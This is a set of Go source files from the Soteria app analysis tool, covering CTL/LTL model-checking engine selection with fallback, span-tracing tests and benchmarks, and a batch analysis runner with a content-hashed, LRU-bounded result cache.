	properties.SortViolations(a.Violations)
	if err != nil {
		if recoverable(err) {
			a.markIncomplete(guard.Diagnose("core.analyze", "", "", err))
			return a, nil
		}
		return nil, err
	}
	return a, nil
}

// Engine selects a model-checking backend.
type Engine string

// Available engines.
const (
	// Explicit is the explicit-state fixpoint checker (default; the
	// only engine producing counterexamples).
	Explicit Engine = "explicit"
	// BDD is the symbolic engine over binary decision diagrams.
	BDD Engine = "bdd"
	// BMC is SAT-based bounded model checking; it handles AG formulas
	// with propositional bodies and reports a counterexample path when
	// one exists within the bound.
	BMC Engine = "bmc"
)

// fallbackChain is the engine order tried when an engine fails on a
// property (budget exhaustion or contained panic); the failed engine
// is skipped. Explicit remains the primary engine — it is the only one
// producing counterexamples.
var fallbackChain = []Engine{BDD, Explicit, BMC}

// faultSite maps an engine to its fault-injection site.
func faultSite(e Engine) string {
	switch e {
	case BDD:
		return faultinject.SiteEngineBDD
	case BMC:
		return faultinject.SiteEngineBMC
	}
	return faultinject.SiteEngineExplicit
}

// bmcBound caps BMC unrolling depth.
func bmcBound(k *kripke.Structure) int {
	if k.N > 64 {
		return 64
	}
	return k.N
}

// tryEngine decides f on k with one engine inside a recovery boundary.
// memo, when non-nil, shares explicit-engine subformula results across
// the sweep's properties. The attempt is recorded as an "engine" child
// span of parent carrying the verdict (or error), the guard budget
// consumed by the attempt, and — for the BDD engine — the kernel's
// table counters; fallbackReason, when non-empty, explains why the
// primary engine was abandoned.
func tryEngine(k *kripke.Structure, b *guard.Budget, e Engine, propID string, f ctl.Formula, memo *modelcheck.Memo, parent *obs.Span, fallbackReason string) (out properties.PropertyOutcome, err error) {
	esp := parent.StartChild("engine")
	esp.Set("engine", string(e))
	if fallbackReason != "" {
		esp.Set("fallback_reason", fallbackReason)
	}
	states0, nodes0, confl0 := b.Spent()
	defer func() {
		states1, nodes1, confl1 := b.Spent()
		esp.SetInt("states", states1-states0)
		esp.SetInt("bdd_nodes", nodes1-nodes0)
		esp.SetInt("sat_conflicts", confl1-confl0)
		if err != nil {
			esp.Set("error", err.Error())
		} else if out.Holds {
			esp.Set("verdict", "holds")
		} else {
			esp.Set("verdict", "violated")
		}
		esp.End()
	}()
	defer guard.RecoverTo(&err, "engine."+string(e))
	faultinject.HitKey(faultSite(e), propID)
	out.Engine = string(e)
	switch e {
	case BDD:
		eng := symbolic.NewBudget(k, b)
		r := eng.Check(f)
		out.Holds = r.Holds
		for _, s := range k.Init {
			if !r.Sat[s] {
				out.FailingStates++
			}
		}
		st := eng.KernelStats()
		esp.SetInt("bdd_live_nodes", int64(st.Nodes))
		esp.SetInt("bdd_ite_lookups", int64(st.ITELookups))
		esp.SetInt("bdd_ite_hits", int64(st.ITEHits))
		esp.SetInt("bdd_op_lookups", int64(st.OpLookups))
		esp.SetInt("bdd_op_hits", int64(st.OpHits))
	case BMC:
		r, handled := bmc.CheckAGBudget(k, f, bmcBound(k), b)
		if !handled {
			return out, fmt.Errorf("core: BMC handles only AG formulas with propositional bodies")
		}
		out.Holds = !r.Violated
		if r.Violated {
			out.FailingStates = 1
			out.Counterexample = k.RenderPath(r.Path)
		}
	default:
		r := modelcheck.CheckMemoBudget(k, f, b, memo)
		out.Holds = r.Holds
		out.FailingStates = len(r.FailingStates)
		if !r.Holds && len(r.Counterexample) > 0 {
			out.Counterexample = k.RenderPath(r.Counterexample)
		}
	}
	return out, nil
}

// checkProperty decides one catalogue formula with the explicit engine
// and, when it fails recoverably, retries on the other engines of
// fallbackChain. Every failure is recorded as a Diagnostic; Err is set
// only when no engine could decide the formula. The decision is traced
// as a "property" child span of parent with one "engine" grandchild
// per attempt.
func checkProperty(k *kripke.Structure, b *guard.Budget, propID string, f ctl.Formula, memo *modelcheck.Memo, parent *obs.Span) properties.PropertyOutcome {
	psp := parent.StartChild("property")
	psp.Set("id", propID)
	defer psp.End()
	finish := func(out properties.PropertyOutcome) properties.PropertyOutcome {
		switch {
		case out.Err != nil:
			psp.Set("verdict", "undecided")
		case out.Holds:
			psp.Set("verdict", "holds")
		default:
			psp.Set("verdict", "violated")
		}
		if out.Engine != "" {
			psp.Set("engine", out.Engine)
		}
		return out
	}
	// Per-property boundary: an exhausted budget (checked promptly, not
	// amortized) or an injected per-property fault undecides only this
	// property.
	if err := guard.Run("property", func() error {
		faultinject.HitKey(faultinject.SiteProperty, propID)
		b.Check("property")
		return nil
	}); err != nil {
		return finish(properties.PropertyOutcome{
			Diagnostics: []guard.Diagnostic{guard.Diagnose("property", propID, "", err)},
			Err:         err,
		})
	}
	var diags []guard.Diagnostic
	record := func(e Engine, err error) {
		diags = append(diags, guard.Diagnose("engine."+string(e), propID, string(e), err))
	}
	out, err := tryEngine(k, b, Explicit, propID, f, memo, psp, "")
	if err == nil {
		out.Diagnostics = diags
		return finish(out)
	}
	record(Explicit, err)
	lastErr := err
	for _, e := range fallbackChain {
		if e == Explicit {
			continue
		}
		reason := fmt.Sprintf("%s: %v", diags[len(diags)-1].Stage, lastErr)
		out, err = tryEngine(k, b, e, propID, f, memo, psp, reason)
		if err == nil {
			out.Diagnostics = diags
			return finish(out)
		}
		record(e, err)
		lastErr = err
	}
	return finish(properties.PropertyOutcome{Diagnostics: diags, Err: lastErr})
}

// CheckFormula verifies a custom CTL formula against the analysis
// model with the explicit-state engine; it returns whether the
// property holds and a rendered counterexample when it does not.
func (a *Analysis) CheckFormula(formula string) (bool, string, error) {
	return a.CheckFormulaEngine(formula, Explicit)
}

// errNoModel reports a post-hoc check against an incomplete analysis.
func (a *Analysis) errNoModel() error {
	return fmt.Errorf("core: analysis is incomplete, no model to check against")
}

// budget creates a fresh budget for a post-hoc formula check,
// reapplying the per-resource limits (not the wall clock) the analysis
// ran under.
func (a *Analysis) budget() *guard.Budget {
	return guard.New(context.Background(), a.lim)
}

// CheckFormulaEngine is CheckFormula with an explicit backend choice
// (the paper's NuSMV combined BDD- and SAT-based engines; §5). It
// never panics: malformed formulas and engine faults come back as
// errors.
func (a *Analysis) CheckFormulaEngine(formula string, engine Engine) (holds bool, cex string, err error) {
	defer guard.RecoverTo(&err, "checkformula")
	if a.Kripke == nil {
		return false, "", a.errNoModel()
	}
	faultinject.Hit(faultinject.SiteCTLParse)
	f, err := ctl.ParseDepth(formula, a.lim.MaxFormulaDepth)
	if err != nil {
		return false, "", err
	}
	switch engine {
	case Explicit, "":
		r := modelcheck.CheckBudget(a.Kripke, f, a.budget())
		if r.Holds {
			return true, "", nil
		}
		cex := ""
		if len(r.Counterexample) > 0 {
			cex = a.Kripke.RenderPath(r.Counterexample)
		}
		return false, cex, nil
	case BDD:
		r := symbolic.NewBudget(a.Kripke, a.budget()).Check(f)
		return r.Holds, "", nil
	case BMC:
		r, handled := bmc.CheckAGBudget(a.Kripke, f, bmcBound(a.Kripke), a.budget())
		if !handled {
			return false, "", fmt.Errorf("core: BMC handles only AG formulas with propositional bodies")
		}
		if !r.Violated {
			return true, "", nil
		}
		return false, a.Kripke.RenderPath(r.Path), nil
	}
	return false, "", fmt.Errorf("core: unknown engine %q", engine)
}

// CheckLTL verifies an LTL property (interpreted over all paths from
// all initial states — the second temporal logic the paper names in
// §2). When the property fails, the counterexample is a rendered
// lasso: a finite stem followed by a loop. It never panics.
func (a *Analysis) CheckLTL(formula string) (holds bool, cex string, err error) {
	defer guard.RecoverTo(&err, "checkltl")
	if a.Kripke == nil {
		return false, "", a.errNoModel()
	}
	faultinject.Hit(faultinject.SiteLTLParse)
	f, err := ltl.ParseDepth(formula, a.lim.MaxFormulaDepth)
	if err != nil {
		return false, "", err
	}
	faultinject.Hit(faultinject.SiteEngineLTL)
	r := ltl.CheckBudget(a.Kripke, f, a.budget())
	if r.Holds {
		return true, "", nil
	}
	cex = a.Kripke.RenderPath(r.Counterexample)
	if r.Loop >= 0 && r.Loop < len(r.Counterexample) {
		cex += fmt.Sprintf("\n  --(loops back to step %d)--> %s",
			r.Loop, a.Kripke.Names[r.Counterexample[r.Loop]])
	}
	return false, cex, nil
}

// WitnessFormula produces a rendered trace demonstrating an
// existential CTL formula (EX/EF/EU/EG) from some state of the model —
// evidence for "can the environment ever reach ...?" questions.
// ok=false when the formula is unsatisfiable or not existential. It
// never panics.
func (a *Analysis) WitnessFormula(formula string) (trace string, ok bool, err error) {
	defer guard.RecoverTo(&err, "witness")
	if a.Kripke == nil {
		return "", false, a.errNoModel()
	}
	faultinject.Hit(faultinject.SiteCTLParse)
	f, err := ctl.ParseDepth(formula, a.lim.MaxFormulaDepth)
	if err != nil {
		return "", false, err
	}
	for _, s := range a.Kripke.Init {
		if path, _, found := modelcheck.Witness(a.Kripke, f, s); found {
			return a.Kripke.RenderPath(path), true, nil
		}
	}
	return "", false, nil
}

// DOT renders the state model in Graphviz format ("" when the
// analysis has no model).
func (a *Analysis) DOT() string {
	if a.Model == nil {
		return ""
	}
	return a.Model.Dot()
}

// SMV renders the state model in NuSMV input format, with the full
// catalogue's applicable formulas as SPECs ("" when the analysis has
// no model).
func (a *Analysis) SMV() string {
	if a.Model == nil {
		return ""
	}
	var specs []ctl.Formula
	for _, prop := range properties.Catalogue() {
		for _, variant := range prop.Variants {
			if !variant.Applicable(a.Model) {
				continue
			}
			if f, ok := variant.Build(a.Model); ok {
				specs = append(specs, f)
			}
		}
	}
	return smv.Emit(a.Model, specs)
}

// ViolatedIDs returns the distinct violated property IDs in catalogue
// order (S.1–S.5, P.1–P.30, then ND) — deterministic regardless of
// the order violations were recorded in.
func (a *Analysis) ViolatedIDs() []string {
	seen := map[string]bool{}
	var out []string
	for _, v := range a.Violations {
		if !seen[v.ID] {
			seen[v.ID] = true
			out = append(out, v.ID)
		}
	}
	sort.Slice(out, func(i, j int) bool {
		ri, rj := properties.IDRank(out[i]), properties.IDRank(out[j])
		if ri != rj {
			return ri < rj
		}
		return out[i] < out[j]
	})
	return out
}
