package core

import (
	"context"
	"testing"

	"github.com/soteria-analysis/soteria/internal/obs"
	"github.com/soteria-analysis/soteria/internal/paperapps"
)

// spanShape runs one traced analysis and returns the order-insensitive
// span-tree shape.
func spanShape(t *testing.T, parallel int) string {
	t.Helper()
	root := obs.NewRoot("analysis")
	ctx := obs.WithSpan(context.Background(), root)
	opts := DefaultOptions()
	opts.Parallel = parallel
	_, err := AnalyzeSourcesContext(ctx, opts,
		NamedSource{Name: "smoke-alarm", Source: paperapps.SmokeAlarm})
	if err != nil {
		t.Fatalf("analyze: %v", err)
	}
	root.End()
	return root.SortedShape()
}

// TestSpanTreeDeterministic: two identical analyses produce span trees
// of identical shape — same phases, same properties, same engine
// attempts — regardless of property-check parallelism. Timing varies
// run to run; structure must not.
func TestSpanTreeDeterministic(t *testing.T) {
	first := spanShape(t, 1)
	if first == "" {
		t.Fatal("empty span shape")
	}
	for run := 0; run < 2; run++ {
		if got := spanShape(t, 1); got != first {
			t.Fatalf("sequential run %d shape diverged:\n%s\n---\n%s", run, got, first)
		}
	}
	// Parallel sweeps reorder siblings but must not change the shape.
	for run := 0; run < 2; run++ {
		if got := spanShape(t, 4); got != first {
			t.Fatalf("parallel run %d shape diverged:\n%s\n---\n%s", run, got, first)
		}
	}
}

// TestSpanTreeStructure pins the tree's skeleton: the analysis root
// carries the pipeline phases in order, and each checked property
// nests at least one engine attempt with a verdict.
func TestSpanTreeStructure(t *testing.T) {
	root := obs.NewRoot("analysis")
	ctx := obs.WithSpan(context.Background(), root)
	_, err := AnalyzeSourcesContext(ctx, DefaultOptions(),
		NamedSource{Name: "smoke-alarm", Source: paperapps.SmokeAlarm})
	if err != nil {
		t.Fatalf("analyze: %v", err)
	}
	root.End()

	var phases []string
	props, engines := 0, 0
	root.Walk(func(depth int, sp *obs.Span) {
		switch sp.Name() {
		case "statemodel", "kripke", "check.general", "check":
			phases = append(phases, sp.Name())
		case "property":
			props++
			if v, ok := sp.Str("verdict"); !ok || v == "" {
				id, _ := sp.Str("id")
				t.Errorf("property %s has no verdict", id)
			}
		case "engine":
			engines++
			if e, ok := sp.Str("engine"); !ok || e == "" {
				t.Errorf("engine span lacks engine attr")
			}
		}
	})
	want := []string{"statemodel", "kripke", "check.general", "check"}
	if len(phases) != len(want) {
		t.Fatalf("phases = %v, want %v", phases, want)
	}
	for i := range want {
		if phases[i] != want[i] {
			t.Fatalf("phases = %v, want %v", phases, want)
		}
	}
	if props == 0 || engines < props {
		t.Fatalf("props = %d, engines = %d: want every property to carry an engine attempt", props, engines)
	}
}

// Benchmarks for the tracing overhead budget: the traced variant must
// stay within a few percent of the untraced one (soteria-bench
// -obs-bench enforces <3% on medians).
func benchAnalyze(b *testing.B, traced bool) {
	src := NamedSource{Name: "smoke-alarm", Source: paperapps.SmokeAlarm}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		ctx := context.Background()
		var root *obs.Span
		if traced {
			root = obs.NewRoot("bench")
			ctx = obs.WithSpan(ctx, root)
		}
		if _, err := AnalyzeSourcesContext(ctx, DefaultOptions(), src); err != nil {
			b.Fatal(err)
		}
		root.End()
	}
}

func BenchmarkAnalyzeUntraced(b *testing.B) { benchAnalyze(b, false) }
func BenchmarkAnalyzeTraced(b *testing.B)   { benchAnalyze(b, true) }
