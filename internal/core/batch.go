package core

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"runtime"
	"sync"

	"github.com/soteria-analysis/soteria/internal/guard"
	"github.com/soteria-analysis/soteria/internal/guard/faultinject"
	"github.com/soteria-analysis/soteria/internal/ir"
)

// BatchItem is one unit of a batch analysis: a single app or a
// multi-app environment, identified by Key in the results. Provide
// either Sources (parsed through the batch cache, enabling IR and
// analysis reuse) or pre-parsed Apps; when both are set, Apps wins
// and the cache is bypassed.
type BatchItem struct {
	Key     string
	Sources []NamedSource
	Apps    []*ir.App
}

// BatchResult pairs an item with its outcome. Exactly one of Analysis
// and Err is nil: hard input errors (unparseable apps) land in Err,
// while contained faults and budget exhaustion come back as a partial
// Analysis with Incomplete set — the same contract as
// AnalyzeAppsContext, preserved per item.
type BatchResult struct {
	Key      string
	Analysis *Analysis
	Err      error
	// Cached is true when the result was served from the batch cache
	// without re-running the pipeline.
	Cached bool
}

// BatchOptions configures a batch run.
type BatchOptions struct {
	// Options applies to every item (including per-item property
	// parallelism via Options.Parallel).
	Options
	// Parallel bounds the number of items analyzed concurrently;
	// 0 defaults to GOMAXPROCS, values below 2 run sequentially.
	Parallel int
	// Cache, when non-nil, memoizes parsed IR per source and completed
	// analyses per item (keyed by source hashes + options), so repeated
	// audits — the same app in several groups, the same corpus across
	// tables — reuse parsed IR and state models instead of rebuilding
	// them.
	Cache *Cache
}

// AnalyzeBatch analyzes the items with a bounded worker pool and
// returns one result per item, in input order. Each item runs inside
// its own recovery boundary: a contained panic or exhausted budget in
// one item degrades only that item's result and never loses the
// others. Cancellation of ctx stops unstarted items promptly (their
// results carry the cancellation as Err) while started items degrade
// cooperatively through their budgets.
func AnalyzeBatch(ctx context.Context, bo BatchOptions, items ...BatchItem) []BatchResult {
	if ctx == nil {
		ctx = context.Background()
	}
	results := make([]BatchResult, len(items))
	workers := bo.Parallel
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > len(items) {
		workers = len(items)
	}
	if workers <= 1 {
		for i := range items {
			results[i] = analyzeItem(ctx, bo, items[i])
		}
		return results
	}
	var wg sync.WaitGroup
	ch := make(chan int)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range ch {
				results[i] = analyzeItem(ctx, bo, items[i])
			}
		}()
	}
	for i := range items {
		ch <- i
	}
	close(ch)
	wg.Wait()
	return results
}

// analyzeItem runs one batch item end to end: cache lookup, parsing,
// analysis, cache store. The recovery boundary contains panics that
// would otherwise escape between pipeline boundaries (e.g. an injected
// fault at the batch-item site) so sibling items are unaffected.
func analyzeItem(ctx context.Context, bo BatchOptions, it BatchItem) BatchResult {
	br := BatchResult{Key: it.Key}
	if err := ctx.Err(); err != nil {
		br.Err = fmt.Errorf("batch %s: %w", it.Key, err)
		return br
	}

	cacheKey := ""
	if bo.Cache != nil && len(it.Apps) == 0 && len(it.Sources) > 0 {
		cacheKey = bo.Cache.analysisKey(it.Sources, bo.Options)
		if an, ok := bo.Cache.lookupAnalysis(cacheKey); ok {
			br.Analysis, br.Cached = an, true
			return br
		}
	}

	err := guard.Run("batch.item", func() error {
		faultinject.HitKey(faultinject.SiteBatchItem, it.Key)
		apps := it.Apps
		if len(apps) == 0 {
			apps = make([]*ir.App, len(it.Sources))
			for i, s := range it.Sources {
				app, err := parseCached(bo.Cache, s)
				if err != nil {
					return fmt.Errorf("parsing %s: %w", s.Name, err)
				}
				apps[i] = app
			}
		}
		an, err := AnalyzeAppsContext(ctx, bo.Options, apps...)
		if err != nil {
			return err
		}
		br.Analysis = an
		return nil
	})
	if err != nil {
		// A fault that escaped the per-item pipeline (rather than being
		// contained inside it) still yields a structured per-item
		// failure instead of tearing down the batch.
		br.Analysis = nil
		br.Err = fmt.Errorf("batch %s: %w", it.Key, err)
		return br
	}
	if cacheKey != "" && br.Analysis != nil {
		bo.Cache.storeAnalysis(cacheKey, br.Analysis)
	}
	return br
}

func parseCached(c *Cache, s NamedSource) (*ir.App, error) {
	if c == nil {
		return ir.BuildSource(s.Name, s.Source)
	}
	return c.parseSource(s)
}

// ---------------------------------------------------------------------------
// Cache

// Cache memoizes batch work across items and across calls. It has two
// levels, both keyed by content hashes so identical sources shared
// between items (an app that is a member of several groups) or
// repeated audits hit without coordination:
//
//   - an IR cache: source hash → parsed *ir.App,
//   - an analysis cache: hash of all item sources + an options
//     fingerprint → completed *Analysis.
//
// Cached values are shared, not copied: the IR and the Analysis (its
// model, Kripke structure, and violations) are treated as immutable
// after construction — which they are for every reader in this
// repository (post-hoc checks build fresh budgets and engine state).
// Callers that mutate results must not use a cache. All methods are
// safe for concurrent use.
type Cache struct {
	mu sync.Mutex
	ir map[string]irEntry
	an map[string]*Analysis
}

type irEntry struct {
	app *ir.App
	err error
}

// NewCache creates an empty batch cache.
func NewCache() *Cache {
	return &Cache{ir: map[string]irEntry{}, an: map[string]*Analysis{}}
}

func sourceHash(s NamedSource) string {
	h := sha256.New()
	fmt.Fprintf(h, "%d:%s\x00%d:%s\x00", len(s.Name), s.Name, len(s.Source), s.Source)
	return hex.EncodeToString(h.Sum(nil))
}

// parseSource parses through the IR cache. Errors are cached too:
// re-auditing a corpus with one broken app does not re-parse it per
// table. Parsing runs outside the lock; concurrent first parses of
// the same source may race benignly (last write wins, same value).
func (c *Cache) parseSource(s NamedSource) (*ir.App, error) {
	key := sourceHash(s)
	c.mu.Lock()
	e, ok := c.ir[key]
	c.mu.Unlock()
	if ok {
		return e.app, e.err
	}
	app, err := ir.BuildSource(s.Name, s.Source)
	c.mu.Lock()
	c.ir[key] = irEntry{app: app, err: err}
	c.mu.Unlock()
	return app, err
}

// analysisKey fingerprints an item's sources plus every option that
// affects verdicts. Parallel is deliberately excluded: parallel and
// sequential runs produce identical analyses, so they share entries.
func (c *Cache) analysisKey(sources []NamedSource, o Options) string {
	h := sha256.New()
	for _, s := range sources {
		fmt.Fprintf(h, "%s\x00", sourceHash(s))
	}
	fmt.Fprintf(h, "g=%t|a=%t|ids=%q|lim=%+v", o.General, o.AppSpecific, o.PropertyIDs, o.Limits)
	return hex.EncodeToString(h.Sum(nil))
}

func (c *Cache) lookupAnalysis(key string) (*Analysis, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	an, ok := c.an[key]
	return an, ok
}

// storeAnalysis memoizes a completed analysis. Partial results are
// not cached: an Incomplete verdict reflects the budget or fault of
// one run, not a property of the input.
func (c *Cache) storeAnalysis(key string, an *Analysis) {
	if an.Incomplete {
		return
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.an[key] = an
}

// Len reports the number of cached IR and analysis entries, for tests
// and instrumentation.
func (c *Cache) Len() (irEntries, analyses int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.ir), len(c.an)
}
