package core

import (
	"context"
	"fmt"
	"runtime"
	"sync"

	"github.com/soteria-analysis/soteria/internal/guard"
	"github.com/soteria-analysis/soteria/internal/guard/faultinject"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/obs"
)

// BatchItem is one unit of a batch analysis: a single app or a
// multi-app environment, identified by Key in the results. Provide
// either Sources (parsed through the batch cache, enabling IR and
// analysis reuse) or pre-parsed Apps; when both are set, Apps wins
// and the cache is bypassed.
type BatchItem struct {
	Key     string
	Sources []NamedSource
	Apps    []*ir.App
}

// BatchResult pairs an item with its outcome. Exactly one of Analysis
// and Err is nil: hard input errors (unparseable apps) land in Err,
// while contained faults and budget exhaustion come back as a partial
// Analysis with Incomplete set — the same contract as
// AnalyzeAppsContext, preserved per item.
type BatchResult struct {
	Key      string
	Analysis *Analysis
	Err      error
	// Cached is true when the result was served from the batch cache
	// without re-running the pipeline.
	Cached bool
}

// BatchOptions configures a batch run.
type BatchOptions struct {
	// Options applies to every item (including per-item property
	// parallelism via Options.Parallel).
	Options
	// Parallel bounds the number of items analyzed concurrently;
	// 0 defaults to GOMAXPROCS, values below 2 run sequentially.
	Parallel int
	// Cache, when non-nil, memoizes completed analyses per item (keyed
	// by source hashes + options, see AnalysisKey), so repeated audits —
	// the same app in several groups, the same corpus across tables —
	// reuse whole analyses instead of rebuilding them. A *Cache
	// additionally memoizes parsed IR per source; any other ResultCache
	// (e.g. the persistent store's AnalysisCache) memoizes at the
	// analysis level only, unless it also implements SourceParser.
	Cache ResultCache
}

// SourceParser is the optional second level of a ResultCache: per-
// source IR memoization. AnalyzeBatch parses through it when the
// configured cache provides one.
type SourceParser interface {
	ParseSource(s NamedSource) (*ir.App, error)
}

// AnalyzeBatch analyzes the items with a bounded worker pool and
// returns one result per item, in input order. Each item runs inside
// its own recovery boundary: a contained panic or exhausted budget in
// one item degrades only that item's result and never loses the
// others. Cancellation of ctx stops unstarted items promptly (their
// results carry the cancellation as Err) while started items degrade
// cooperatively through their budgets.
func AnalyzeBatch(ctx context.Context, bo BatchOptions, items ...BatchItem) []BatchResult {
	if ctx == nil {
		ctx = context.Background()
	}
	results := make([]BatchResult, len(items))
	workers := bo.Parallel
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > len(items) {
		workers = len(items)
	}
	if workers <= 1 {
		for i := range items {
			results[i] = analyzeItem(ctx, bo, items[i])
		}
		return results
	}
	var wg sync.WaitGroup
	ch := make(chan int)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range ch {
				results[i] = analyzeItem(ctx, bo, items[i])
			}
		}()
	}
	for i := range items {
		ch <- i
	}
	close(ch)
	wg.Wait()
	return results
}

// analyzeItem runs one batch item end to end: cache lookup, parsing,
// analysis, cache store. The recovery boundary contains panics that
// would otherwise escape between pipeline boundaries (e.g. an injected
// fault at the batch-item site) so sibling items are unaffected.
func analyzeItem(ctx context.Context, bo BatchOptions, it BatchItem) BatchResult {
	// The item span nests the whole per-item pipeline (ir → statemodel →
	// kripke → check) under one node of the job's trace tree.
	ctx, isp := obs.StartSpan(ctx, "item")
	isp.Set("key", it.Key)
	defer isp.End()

	br := BatchResult{Key: it.Key}
	if err := ctx.Err(); err != nil {
		br.Err = fmt.Errorf("batch %s: %w", it.Key, err)
		return br
	}

	cacheKey := ""
	if bo.Cache != nil && len(it.Apps) == 0 && len(it.Sources) > 0 {
		cacheKey = AnalysisKey(it.Sources, bo.Options)
		if an, ok := bo.Cache.LookupAnalysis(cacheKey); ok {
			br.Analysis, br.Cached = an, true
			isp.Set("cached", "true")
			return br
		}
	}

	err := guard.Run("batch.item", func() error {
		faultinject.HitKey(faultinject.SiteBatchItem, it.Key)
		apps := it.Apps
		if len(apps) == 0 {
			irsp := obs.Start(ctx, "ir")
			apps = make([]*ir.App, len(it.Sources))
			for i, s := range it.Sources {
				app, err := parseCached(bo.Cache, s)
				if err != nil {
					irsp.End()
					return fmt.Errorf("parsing %s: %w", s.Name, err)
				}
				apps[i] = app
			}
			irsp.SetInt("apps", int64(len(apps)))
			irsp.End()
		}
		an, err := AnalyzeAppsContext(ctx, bo.Options, apps...)
		if err != nil {
			return err
		}
		br.Analysis = an
		return nil
	})
	if err != nil {
		// A fault that escaped the per-item pipeline (rather than being
		// contained inside it) still yields a structured per-item
		// failure instead of tearing down the batch.
		br.Analysis = nil
		br.Err = fmt.Errorf("batch %s: %w", it.Key, err)
		return br
	}
	if cacheKey != "" && br.Analysis != nil {
		bo.Cache.StoreAnalysis(cacheKey, br.Analysis)
	}
	return br
}

func parseCached(c ResultCache, s NamedSource) (*ir.App, error) {
	if p, ok := c.(SourceParser); ok {
		return p.ParseSource(s)
	}
	return ir.BuildSource(s.Name, s.Source)
}
