package core

import (
	"container/list"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sync"
	"sync/atomic"

	"github.com/soteria-analysis/soteria/internal/ir"
)

// ResultCache is the memoization contract of AnalyzeBatch: completed
// analyses keyed by a content hash of their inputs (see AnalysisKey).
// The in-process Cache below and the persistent disk store
// (internal/store.AnalysisCache) both satisfy it, so batch callers can
// swap process-lifetime memoization for cross-restart memoization
// without touching the pipeline.
//
// Implementations must be safe for concurrent use and must treat
// stored analyses as immutable. LookupAnalysis reports a miss for keys
// never stored; StoreAnalysis may decline to store (e.g. partial
// results). Stats exposes hit/miss/eviction counters for /metrics.
type ResultCache interface {
	LookupAnalysis(key string) (*Analysis, bool)
	StoreAnalysis(key string, an *Analysis)
	Stats() CacheStats
}

// CacheStats are a cache's monotonic counters and current sizes, for
// instrumentation (the soteriad /metrics endpoint) and tests.
type CacheStats struct {
	// Hits and Misses count LookupAnalysis outcomes.
	Hits, Misses int64
	// Evictions counts analyses dropped to honor a capacity bound.
	Evictions int64
	// IREntries and Analyses are the current entry counts.
	IREntries, Analyses int
}

// SourceHash fingerprints one named source (length-prefixed, so
// name/source boundaries cannot collide).
func SourceHash(s NamedSource) string {
	h := sha256.New()
	fmt.Fprintf(h, "%d:%s\x00%d:%s\x00", len(s.Name), s.Name, len(s.Source), s.Source)
	return hex.EncodeToString(h.Sum(nil))
}

// AnalysisKey fingerprints an item's sources plus every option that
// affects verdicts — the content address of an analysis result.
// Parallel is deliberately excluded: parallel and sequential runs
// produce identical analyses, so they share entries.
func AnalysisKey(sources []NamedSource, o Options) string {
	h := sha256.New()
	for _, s := range sources {
		fmt.Fprintf(h, "%s\x00", SourceHash(s))
	}
	fmt.Fprintf(h, "g=%t|a=%t|t=%t|ids=%q|lim=%+v", o.General, o.AppSpecific, o.Taint, o.PropertyIDs, o.Limits)
	return hex.EncodeToString(h.Sum(nil))
}

// Cache memoizes batch work across items and across calls. It has two
// levels, both keyed by content hashes so identical sources shared
// between items (an app that is a member of several groups) or
// repeated audits hit without coordination:
//
//   - an IR cache: source hash → parsed *ir.App,
//   - an analysis cache: AnalysisKey → completed *Analysis, optionally
//     bounded with least-recently-used eviction (see NewCacheBounded).
//
// Cached values are shared, not copied: the IR and the Analysis (its
// model, Kripke structure, and violations) are treated as immutable
// after construction — which they are for every reader in this
// repository (post-hoc checks build fresh budgets and engine state).
// Callers that mutate results must not use a cache.
//
// All methods are safe for concurrent use and safe on a nil *Cache
// (lookups miss, stores are dropped), so a nil cache threaded through
// BatchOptions simply disables memoization.
type Cache struct {
	mu  sync.Mutex
	ir  map[string]irEntry
	an  map[string]*list.Element
	lru *list.List // of *anEntry, front = most recently used
	max int        // max analysis entries; 0 = unbounded

	hits, misses, evictions atomic.Int64
}

type irEntry struct {
	app *ir.App
	err error
}

type anEntry struct {
	key string
	an  *Analysis
}

// NewCache creates an empty, unbounded batch cache.
func NewCache() *Cache { return NewCacheBounded(0) }

// NewCacheBounded creates a batch cache holding at most maxAnalyses
// completed analyses (0 = unbounded), evicting the least recently used
// entry past the bound. The IR level stays unbounded: parsed IR is
// small and shared by many analyses.
func NewCacheBounded(maxAnalyses int) *Cache {
	return &Cache{
		ir:  map[string]irEntry{},
		an:  map[string]*list.Element{},
		lru: list.New(),
		max: maxAnalyses,
	}
}

// ParseSource parses through the IR cache. Errors are cached too:
// re-auditing a corpus with one broken app does not re-parse it per
// table. Parsing runs outside the lock; concurrent first parses of
// the same source may race benignly (last write wins, same value).
func (c *Cache) ParseSource(s NamedSource) (*ir.App, error) {
	if c == nil {
		return ir.BuildSource(s.Name, s.Source)
	}
	key := SourceHash(s)
	c.mu.Lock()
	e, ok := c.ir[key]
	c.mu.Unlock()
	if ok {
		return e.app, e.err
	}
	app, err := ir.BuildSource(s.Name, s.Source)
	c.mu.Lock()
	c.ir[key] = irEntry{app: app, err: err}
	c.mu.Unlock()
	return app, err
}

// LookupAnalysis returns the memoized analysis for key, marking it
// most recently used.
func (c *Cache) LookupAnalysis(key string) (*Analysis, bool) {
	if c == nil {
		return nil, false
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	el, ok := c.an[key]
	if !ok {
		c.misses.Add(1)
		return nil, false
	}
	c.lru.MoveToFront(el)
	c.hits.Add(1)
	return el.Value.(*anEntry).an, true
}

// StoreAnalysis memoizes a completed analysis. Partial results are
// not cached: an Incomplete verdict reflects the budget or fault of
// one run, not a property of the input.
func (c *Cache) StoreAnalysis(key string, an *Analysis) {
	if c == nil || an == nil || an.Incomplete {
		return
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if el, ok := c.an[key]; ok {
		el.Value.(*anEntry).an = an
		c.lru.MoveToFront(el)
		return
	}
	c.an[key] = c.lru.PushFront(&anEntry{key: key, an: an})
	for c.max > 0 && c.lru.Len() > c.max {
		oldest := c.lru.Back()
		c.lru.Remove(oldest)
		delete(c.an, oldest.Value.(*anEntry).key)
		c.evictions.Add(1)
	}
}

